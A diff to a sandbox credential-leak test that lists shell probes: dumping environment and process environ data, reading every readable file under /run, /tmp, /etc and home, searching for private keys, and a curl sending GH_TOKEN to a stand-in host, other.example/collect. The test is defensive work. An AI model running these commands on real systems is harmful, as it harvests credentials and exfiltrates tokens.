@@ -21,6 +21,7 @@ import {
 import { Sandbox } from '../sandbox.js';
 import {
   presented,
+  readableFiles,
   startStandIn,
   startTestProxy,
   type StandIn,
@@ -136,8 +137,8 @@ maybe('credentials in a real sandbox', () => {
         'echo "== env"; env',
         'echo "== proc"; for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ; tr "\\0" " " < $p/cmdline; echo; done 2>/dev/null',
         // Every readable file under the places a secret could have been written for the sandbox.
-        'echo "== files"; find /run /tmp /etc "$HOME" -xdev -type f -readable -exec cat {} + 2>/dev/null',
-        'echo "== keys"; grep -rls "PRIVATE KEY" /run /tmp "$HOME"; echo "keys end"',
+        `echo "== files"; ${readableFiles('/run /tmp /etc "$HOME"', '-xdev')} | xargs -0r cat 2>/dev/null`,
+        `echo "== keys"; ${readableFiles('/run /tmp "$HOME"')} | xargs -0r grep -ls "PRIVATE KEY"; echo "keys end"`,
         'echo "== gh"; curl -sS -H "Authorization: token $GH_TOKEN" https://api.github.com/user',
         'echo "== other"; curl -sS -H "Authorization: token $GH_TOKEN" https://other.example/collect',
         'echo "== git"; git init -q -b main && echo hi > f && git add f && git commit -q -m one',
